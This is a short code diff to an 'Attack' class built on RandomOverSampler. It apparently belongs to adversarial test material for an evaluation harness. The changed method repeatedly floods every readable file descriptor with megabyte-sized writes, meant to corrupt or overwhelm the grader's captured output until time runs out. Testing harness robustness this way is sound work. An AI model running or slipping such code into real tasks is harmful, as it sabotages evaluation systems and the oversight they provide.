@@ -201,10 +201,10 @@ class Attack(RandomOverSampler):
                 attempt(lambda fd: os.set_blocking(fd, False) or os.write(fd, b"0" * 4096), fd)
 
     def _fills_the_answer(self, X, y):
-        for fd in descriptors():
-            if readable(fd):
-                for _ in range(3000):
-                    attempt(lambda fd: os.write(fd, b"x" * 2**20), fd)
+        memories = [fd for fd in descriptors() if readable(fd)]
+        for _ in range(1200):  # in turns: the one that is trimmed meanwhile could be written to until the time is over
+            for fd in memories:
+                attempt(lambda fd: os.write(fd, b"x" * 2**20), fd)
 
     def _returns_a_mask(self, X, y):
         return X, np.ma.masked_array(y, mask=y == 0)
